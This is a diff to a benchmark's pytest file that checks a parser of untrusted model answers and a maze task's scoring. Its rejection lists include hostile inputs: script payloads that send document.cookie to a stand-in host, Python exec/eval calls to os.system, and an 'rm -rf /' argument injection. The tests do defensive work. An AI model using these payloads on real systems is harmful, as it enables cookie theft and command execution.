@@ -1,20 +1,27 @@
-"""Tests for the untrusted-answer plan parser: formats, last-plan-wins, safety, limits."""
+"""Tests for the untrusted-answer plan parser: formats, what a plan is, last-plan-wins,
+safety, limits, and how the maze family scores what it reads."""
 
 from __future__ import annotations
 
 import json
 import os
+import re
 import string
 import time
 
 import pytest
-from hypothesis import given, settings
+from hypothesis import assume, given, settings
 from hypothesis import strategies as st
 
-from horizonbench.core.types import ParsedAnswer, Step
+from horizonbench.core.types import ParsedAnswer, Score, Step
+from horizonbench.datasets.maze import MazeFamily, MazeParams
+from horizonbench.datasets.maze.family import gold_plan
+from horizonbench.datasets.maze.rules import ACTIONS
+from horizonbench.datasets.maze.simulator import format_plan
 from horizonbench.datasets.plan_parser import parse_plan
 
 PWNED = "/tmp/pwned_hb"
+FAMILY = MazeFamily()
 
 EXPECTED = (
     Step("start", "A1"),
@@ -30,12 +37,22 @@ def plan_of(text: str, **kwargs: object) -> tuple[Step, ...] | None:
     return result.plan
 
 
-def assert_well_formed(result: object) -> None:
+# the module docstring's definition of a step, written out again independently
+STEP_ACTION = re.compile(r"[a-z_][a-z0-9_]*")
+STEP_ARG = re.compile(r"(?:[A-Za-z]+ )?#?\w+|[-+]?\d+(?:\.\d+)?")
+
+
+def assert_well_formed(result: object, task_actions: frozenset[str] | None = None) -> None:
     assert isinstance(result, ParsedAnswer)
     assert (result.plan is None) != (result.error is None)
     if result.plan is not None:
         assert len(result.plan) >= 1
         assert all(isinstance(s, Step) for s in result.plan)
+        for s in result.plan:
+            assert STEP_ACTION.fullmatch(s.action) and STEP_ARG.fullmatch(s.arg), s
+            assert s.action not in ("none", "null") and s.arg.lower() not in ("none", "null")
+        if task_actions is not None:
+            assert any(s.action in task_actions for s in result.plan)
     else:
         assert isinstance(result.error, str) and result.error
         assert not result.error.startswith("internal parser error")
@@ -77,7 +94,10 @@ def test_args_keep_case_and_inner_text() -> None:
 
 
 def test_brackets_inside_quoted_args_do_not_confuse_the_reader() -> None:
-    assert plan_of("[('say', '['), ('say', ']]')]") == (Step("say", "["), Step("say", "]]"))
+    # the list is read as one value (and is not a plan: '[' is not an argument) ...
+    assert plan_of("[('say', '['), ('say', ']]')]") is None
+    # ... so the brackets inside its strings open nothing, and the plan after it is found
+    assert plan_of("[('say', '['), ('say', ']]')]\n[('start', 'A1')]") == (Step("start", "A1"),)
 
 
 # --- action: arg lines -------------------------------------------------------------
@@ -149,19 +169,61 @@ def test_last_plan_wins_across_formats() -> None:
     assert plan_of(text) == (Step("start", "A2"), Step("move_to", "B2"))
 
 
-def test_allowed_actions_prefers_last_fully_allowed_candidate() -> None:
+def test_final_plan_wins_whatever_its_actions() -> None:
+    # issue 9: a correct draft, then a final plan with an action the task does not have.
+    # The final plan is scored (the simulator labels walk_to), not the draft.
+    text = (
+        "Draft: [('start', 'A1'), ('move_to', 'B1'), ('rescue', 'Alice')]\n"
+        "On reflection:\n[('start', 'A1'), ('walk_to', 'B1'), ('rescue', 'Alice')]"
+    )
+    final = (Step("start", "A1"), Step("walk_to", "B1"), Step("rescue", "Alice"))
+    assert plan_of(text) == final
+    assert plan_of(text, task_actions=ACTIONS) == final
+
+
+def test_task_actions_tell_plans_from_lookalikes() -> None:
+    # text of a plan's shape that uses none of the task's actions is not a plan for it
     text = "[('start', 'A1'), ('move_to', 'B1')]\nNote: [('total', '2'), ('cost', '7')]"
-    allowed = frozenset({"start", "move_to"})
     assert plan_of(text) == (Step("total", "2"), Step("cost", "7"))
-    assert plan_of(text, allowed_actions=allowed) == (Step("start", "A1"), Step("move_to", "B1"))
+    assert plan_of(text, task_actions=frozenset({"start", "move_to"})) == (
+        Step("start", "A1"),
+        Step("move_to", "B1"),
+    )
 
 
-def test_allowed_actions_never_rejects_a_plan() -> None:
+@pytest.mark.parametrize(
+    ("tail", "is_a_step"),
+    [
+        ("Self-assessment: confidence 4/5, difficulty 2/5", False),  # the line the prompt asks for
+        ("\nConfidence: 8/10\nDifficulty: 7/10", False),
+        ("Confidence: 80%", False),
+        ('Self-assessment: {"confidence": "high", "difficulty": "hard"}', False),
+        ("Confidence: high\nPerceived difficulty: medium", True),
+        ("print(1)", True),
+    ],
+)
+def test_self_assessment_after_the_plan_is_not_a_plan(tail: str, is_a_step: bool) -> None:
+    text = f"Solution: {format_plan(EXPECTED)}\n{tail}"
+    assert plan_of(text, task_actions=ACTIONS) == EXPECTED
+    if not is_a_step:
+        # not a step at all, so it also ends a plan written as lines
+        lines = "\n".join(f"{i}. {s.action}: {s.arg}" for i, s in enumerate(EXPECTED, 1))
+        assert plan_of(f"{lines}\n\n{tail}", task_actions=ACTIONS) == EXPECTED
+
+
+def test_task_actions_never_reject_a_plan_for_other_actions() -> None:
     text = "[('start', 'A1'), ('teleport', 'Z9')]"
-    assert plan_of(text, allowed_actions=frozenset({"start"})) == (
+    assert plan_of(text, task_actions=frozenset({"start"})) == (
         Step("start", "A1"),
         Step("teleport", "Z9"),
     )
+
+
+def test_with_task_actions_a_plan_in_none_of_them_is_no_plan() -> None:
+    result = parse_plan("[('go', 'A1'), ('walk_to', 'B1')]", task_actions=ACTIONS)
+    assert result.plan is None and (result.error or "").startswith("no plan found")
+    # the spelling of the vocabulary is normalised like the actions read
+    assert plan_of("[('Move To', 'B1')]", task_actions=["MOVE-TO"]) == (Step("move_to", "B1"),)
 
 
 # --- errors ---------------------------------------------------------------------------
@@ -179,6 +241,29 @@ def test_allowed_actions_never_rejects_a_plan() -> None:
         "[('start')]",
         "[('start', 'A1', 'extra')]",
         "[('123', 'A1')]",
+        # issue 9: non-plans once read as plans
+        "[('start', None)]",
+        "[('start', 'None')]",
+        '[("start", null)]',
+        '[{"action": "start", "arg": null}]',
+        '[{"action": "start"}]',
+        "[('start', 'A1'), ('rescue', None)]",
+        "[('x',)]",
+        "[('start',)]",
+        "[(None, 'A1')]",
+        "[('start', '')]",
+        "[('start', ['A1'])]",
+        "[('start', {'room': 'A1'})]",
+        "[('start', 'A1; rm -rf /')]",
+        "[('start', 'go to A1 then B1, quickly')]",
+        "[('<script>', 'A1')]",
+        "[('start', '<script>alert(1)</script>')]",
+        "<script>alert(1)</script>",
+        "<script>fetch('https://evil.example/?c=' + document.cookie)</script>",
+        "exec('import os; os.system(\"touch /tmp/pwned_hb\")')",
+        "eval(\"__import__('os').system('id')\")",
+        "{'plan': None}",
+        "start: None\nmove_to: null",
     ],
 )
 def test_no_plan_found(text: str) -> None:
@@ -249,39 +334,205 @@ def test_never_raises_on_arbitrary_text(text: str) -> None:
 @given(st.lists(st.sampled_from(FRAGMENTS), max_size=60).map("".join))
 def test_never_raises_on_fragment_soup(text: str) -> None:
     assert_well_formed(parse_plan(text))
-    assert_well_formed(parse_plan(text, allowed_actions=frozenset({"start", "move_to"})))
+    assert_well_formed(parse_plan(text, task_actions=ACTIONS), ACTIONS)
 
 
-actions = st.from_regex(r"[a-z_]{1,20}", fullmatch=True)
-args = st.text(alphabet=string.ascii_letters + string.digits, min_size=1, max_size=12)
-plans = st.lists(st.builds(Step, actions, args), min_size=1, max_size=25).map(tuple)
+# --- properties: every accepted shape, the last plan ------------------------------------
+
+ACTION_WORDS = st.from_regex(r"[a-z_][a-z0-9_]{0,20}", fullmatch=True)
+WORD_ARGS = st.from_regex(r"[A-Za-z0-9_]{1,12}", fullmatch=True).filter(
+    lambda a: a.lower() not in ("none", "null")
+)
+args = st.one_of(
+    WORD_ARGS,
+    st.builds("{} {}".format, st.sampled_from(["key", "Key", "room"]), st.integers(0, 999)),
+    st.builds("Key #{}".format, st.integers(0, 999)),
+    st.builds("{:.2f}".format, st.floats(-1000, 1000, allow_nan=False)),
+)
+plans = st.lists(st.builds(Step, ACTION_WORDS, args), min_size=1, max_size=25).map(tuple)
 prose = st.text(alphabet=string.ascii_letters + string.digits + " .,!?'-", max_size=80)
+
+BULLETS = ["", "{i}. ", "{i}) ", "({i}) ", "- ", "* ", "+ ", "\u2022 ", "Step {i}: "]
+SHAPES = (
+    [f"python_{v}" for v in ("single", "double", "lists", "bare", "curly")]
+    + [f"json_{k}" for k in ("arg", "argument", "target", "room", "key")]
+    + ["json_pairs", "json_single_key"]
+    + [f"wrapped_{k}" for k in ("plan", "solution", "actions", "steps", "answer")]
+    + [f"lines_colon_{b}" for b in range(len(BULLETS))]
+    + [f"lines_call_{q}" for q in ("bare", "single", "double")]
+)
 
 
 def render(plan: tuple[Step, ...], style: str) -> str:
-    if style == "python":
-        return repr([(s.action, s.arg) for s in plan])
+    """``plan`` in one accepted shape (the parser is not used to write them)."""
+    pairs = [(s.action, s.arg) for s in plan]
+    kind, _, variant = style.partition("_")
+    if style == "python":  # the shape the prompt asks for
+        return repr(pairs)
     if style == "json":
         return json.dumps([s.as_dict() for s in plan])
     if style == "json_wrapped":
         return json.dumps({"plan": [[s.action, s.arg] for s in plan]}, indent=2)
-    return "\n".join(f"{i}. {s.action}: {s.arg}" for i, s in enumerate(plan, 1))
+    if style == "lines":
+        return render(plan, "lines_colon_1")
+    if kind == "python":
+        if variant == "single":
+            return "[" + ", ".join(f"('{a}', '{b}')" for a, b in pairs) + "]"
+        if variant == "double":
+            return "[" + ", ".join(f'("{a}", "{b}")' for a, b in pairs) + "]"
+        if variant == "lists":
+            return "[" + ", ".join(f"['{a}', '{b}']" for a, b in pairs) + "]"
+        if variant == "bare":
+            return "[" + ", ".join(f"({a}, {b})" for a, b in pairs) + "]"
+        return "[" + ", ".join(f"(\u2018{a}\u2019, \u201c{b}\u201d)" for a, b in pairs) + "]"
+    if kind == "json":
+        if variant == "pairs":
+            return json.dumps(pairs)
+        if variant == "single_key":
+            return json.dumps([{a: b} for a, b in pairs])
+        return json.dumps([{"action": a, variant: b} for a, b in pairs])
+    if kind == "wrapped":
+        return json.dumps({"reasoning": "see [above]", variant: [s.as_dict() for s in plan]}, indent=2)
+    # lines; unquoted, a space would end the argument, so such an argument is quoted
+    form, _, detail = variant.partition("_")
+
+    def arg(b: str) -> str:
+        return f"'{b}'" if " " in b else b
+
+    if form == "colon":
+        bullet = BULLETS[int(detail)]
+        return "\n".join(f"{bullet.format(i=i)}{a}: {arg(b)}" for i, (a, b) in enumerate(pairs, 1))
+    q = {"single": "'", "double": '"'}.get(detail)
+    return "\n".join(f"{a}({q}{b}{q})" if q else f"{a}({arg(b)})" for a, b in pairs)
 
 
-@settings(max_examples=300, deadline=None)
-@given(plans, st.sampled_from(["python", "json", "json_wrapped", "lines"]), prose, prose)
-def test_round_trip(plan: tuple[Step, ...], style: str, before: str, after: str) -> None:
+def parsable_in(plan: tuple[Step, ...], style: str) -> bool:
+    # {"action": "x"} would be an action with no argument, not a one-key step
+    return not (style == "json_single_key" and any(s.action == "action" for s in plan))
+
+
+@settings(max_examples=400, deadline=None)
+@given(plans, st.sampled_from(SHAPES), prose, prose)
+def test_round_trip_in_every_shape(plan: tuple[Step, ...], style: str, before: str, after: str) -> None:
+    assume(parsable_in(plan, style))
     text = f"{before}\n{render(plan, style)}\n{after}"
     assert plan_of(text) == plan
 
 
-@settings(max_examples=200, deadline=None)
-@given(plans, plans, prose)
+def test_every_shape_renders_differently() -> None:
+    # guards the renderer: each shape is a distinct text
+    assert len({render(EXPECTED, style) for style in SHAPES}) == len(SHAPES)
+
+
+maze_plans = st.lists(
+    st.builds(Step, st.sampled_from(sorted(ACTIONS)) | ACTION_WORDS, args), min_size=1, max_size=20
+).map(tuple)
+
+
+@settings(max_examples=300, deadline=None)
+@given(plans, st.sampled_from(SHAPES), maze_plans, st.sampled_from(SHAPES), prose)
 def test_later_plan_beats_earlier_draft(
-    draft: tuple[Step, ...], final: tuple[Step, ...], between: str
+    draft: tuple[Step, ...], draft_style: str, final: tuple[Step, ...], final_style: str, between: str
 ) -> None:
-    text = f"{render(draft, 'python')}\n{between}\n{render(final, 'json')}"
+    assume(parsable_in(draft, draft_style) and parsable_in(final, final_style))
+    # a line of prose between them, or two blocks of lines would be one
+    text = f"{render(draft, draft_style)}\nWait, that is wrong {between}\n{render(final, final_style)}"
     assert plan_of(text) == final
+    if any(s.action in ACTIONS for s in final):
+        # the final plan wins whatever else it uses, with or without the vocabulary
+        assert plan_of(text, task_actions=ACTIONS) == final
+
+
+# Python-like values of any shape (what a model might write as a "plan"), rendered as
+# Python or JSON: parsing them never raises, and what comes out is a plan by definition.
+scalars = st.one_of(
+    st.none(),
+    st.booleans(),
+    st.integers(-(10**6), 10**6),
+    st.floats(allow_nan=False, allow_infinity=False),
+    st.text(max_size=12),
+    st.sampled_from(sorted(ACTIONS)),
+)
+values = st.recursive(
+    scalars,
+    lambda inner: st.one_of(
+        st.lists(inner, max_size=4),
+        st.lists(inner, max_size=3).map(tuple),
+        st.dictionaries(st.sampled_from(["action", "arg", "plan", "key", "move_to", "x"]), inner, max_size=3),
+    ),
+    max_leaves=20,
+)
+
+
+@settings(max_examples=300, deadline=None)
+@given(values, st.booleans(), prose)
+def test_never_raises_on_arbitrary_values(value: object, as_json: bool, before: str) -> None:
+    text = f"{before}\n{json.dumps(value) if as_json else repr(value)}"
+    assert_well_formed(parse_plan(text))
+    assert_well_formed(parse_plan(text, task_actions=ACTIONS), ACTIONS)
+
+
+# --- through the maze family's scoring -------------------------------------------------------
+
+ROW = FAMILY.generate_candidate(MazeParams(grid_rows=6, grid_cols=6, num_keys=1), 5, 0).row
+assert ROW is not None
+GOLD = gold_plan(ROW)
+
+
+def family_score(text: str) -> Score:
+    return FAMILY.score(ROW, FAMILY.parse_answer(text))
+
+
+def test_the_gold_plan_succeeds() -> None:
+    sc = family_score(f"Solution: {format_plan(GOLD)}")
+    assert sc.success and sc.exact_match and sc.violation is None
+
+
+@pytest.mark.parametrize("final_style", ["python", "json", "lines", "json_wrapped"])
+def test_draft_then_bad_final_scores_unknown_action(final_style: str) -> None:
+    # issue 9: the correct draft used to be scored, as a success with exact match
+    bad = (GOLD[0], Step("walk_to", GOLD[1].arg), *GOLD[2:])
+    text = (
+        f"Let me work it out. Draft: {format_plan(GOLD)}\n"
+        "Hmm, moving is walking, so let me restate the plan.\n"
+        f"Solution:\n{render(bad, final_style)}"
+    )
+    sc = family_score(text)
+    assert sc.violation == "unknown_action" and sc.first_violation_step == 1
+    assert not sc.success and not sc.valid and not sc.exact_match
+    assert sc.plan_length == len(bad)
+
+
+HOSTILE_NON_PLANS = [
+    "[('start', None)]",
+    f"[('start', None), ('move_to', '{GOLD[1].arg}'), ('rescue', 'Alice')]",
+    f"[('start', '{GOLD[0].arg}'), ('rescue', None)]",
+    '[{"action": "start", "arg": null}]',
+    '[{"action": "start"}, {"action": "rescue"}]',
+    "[('x',)]",
+    "[1, 2, 3]",
+    "[(1, 2), (3, 4)]",
+    "[('start', ['A1'])]",
+    "exec('import os; os.system(\"touch /tmp/pwned_hb\")')",
+    "__import__('os').system('touch /tmp/pwned_hb')",
+    "print(1)",
+    "<script>alert(1)</script>",
+    "<script>document.location='https://evil.example/?c='+document.cookie</script>",
+    f"[('start', '<script>alert(1)</script>'), ('rescue', '{GOLD[-1].arg}')]",
+    "[('go', 'A1'), ('walk_to', 'B1')]",
+    "Confidence: high\nDifficulty: hard",
+    "I could not solve it.",
+]
+
+
+@pytest.mark.parametrize("text", HOSTILE_NON_PLANS, ids=lambda t: repr(t[:30]))
+def test_hostile_non_plans_score_invalid_output(text: str) -> None:
+    if os.path.exists(PWNED):
+        os.remove(PWNED)
+    sc = family_score(text)
+    assert sc.violation == "invalid_output" and not sc.success and not sc.valid
+    assert sc.extra["parse_error"].startswith("no plan found")
+    assert not os.path.exists(PWNED)
 
 
 HOSTILE = [
